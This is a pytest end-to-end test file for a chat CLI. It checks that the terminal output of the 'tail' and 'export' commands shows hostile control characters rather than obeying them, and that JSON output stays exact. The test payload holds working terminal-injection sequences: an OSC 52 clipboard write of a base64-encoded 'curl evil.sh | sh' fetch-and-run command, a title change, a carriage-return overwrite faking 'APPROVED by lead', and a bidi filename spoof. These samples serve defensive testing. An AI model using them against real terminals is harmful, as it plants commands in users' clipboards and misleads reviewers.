"""The terminal commands against the real server, printing to a real pseudo-terminal:
a message's control characters are shown, never obeyed; JSON stays exact."""

from __future__ import annotations

import json
import os
import pty
import re
import subprocess
import sys

import httpx
import pytest

from tests.helpers import ServerProcess

pytestmark = pytest.mark.e2e

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: write the clipboard
TITLE = "\x1b]0;owned\x07"
HOSTILE = f"looks fine{CLIPBOARD}{TITLE}\rAPPROVED by lead\x9b2J\u202etxt.exe\tend\nline two"
OBEYED = re.compile("[\x07\x1b\x9b\u202e]|\r(?!\n)")  # \r\n is the pty's own newline


def run_chatnut(server: ServerProcess, *args: str, tty: bool) -> str:
    """Run the CLI with stdout a pseudo-terminal (tty) or a pipe; its output."""
    command = [sys.executable, "-m", "chatnut", *args]
    if not tty:
        done = subprocess.run(
            command, env=server.environment(), capture_output=True, text=True, timeout=60
        )
        assert done.returncode == 0, done.stderr
        return done.stdout
    leader, follower = pty.openpty()
    proc = subprocess.Popen(
        command, env=server.environment(), stdout=follower, stderr=subprocess.PIPE
    )
    os.close(follower)
    chunks = []
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # EIO: the child closed its end
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(leader)
    assert proc.wait(timeout=60) == 0
    assert proc.stderr is not None
    proc.stderr.close()
    return b"".join(chunks).decode("utf-8")


@pytest.fixture
def hostile_room(server: ServerProcess) -> str:
    room = httpx.post(f"{server.url}/api/rooms", json={"project": "demo", "name": "plan"}).json()
    answer = httpx.post(
        f"{server.url}/api/rooms/{room['id']}/messages",
        json={"sender": f"mallory{TITLE}", "content": HOSTILE},
    )
    assert answer.status_code == 200, answer.text
    return str(room["id"])


def test_tail_on_a_terminal_shows_controls_instead_of_obeying_them(
    server: ServerProcess, hostile_room: str
) -> None:
    for colour in ("never", "always"):
        out = run_chatnut(server, "tail", "demo/plan", "--once", "--color", colour, tty=True)
        shown = out.replace("\x1b[", "CSI[") if colour == "always" else out  # our own colours
        assert not OBEYED.search(shown), repr(out)
        assert "\\u001b]52;c;" in out and "\\u000dAPPROVED" in out and "\\u202etxt" in out
        assert "\tend" in out and "line two" in out  # tab and newline stay as they are


def test_export_on_a_terminal_is_inert_and_to_a_pipe_exact(
    server: ServerProcess, hostile_room: str
) -> None:
    out = run_chatnut(server, "export", "demo/plan", tty=True)
    assert not OBEYED.search(out) and "APPROVED" in out
    piped = run_chatnut(server, "export", "demo/plan", "--format", "json", tty=False)
    assert json.loads(piped)["messages"][0]["content"] == HOSTILE


def test_json_on_a_terminal_is_still_the_exact_values(
    server: ServerProcess, hostile_room: str
) -> None:
    out = run_chatnut(server, "tail", "demo/plan", "--once", "--format", "json", tty=True)
    assert not OBEYED.search(out)
    message = json.loads(out.strip())
    assert message["content"] == HOSTILE and message["sender"] == f"mallory{TITLE}"
    piped = run_chatnut(server, "tail", "demo/plan", "--once", "--format", "json", tty=False)
    assert json.loads(piped)["content"] == HOSTILE
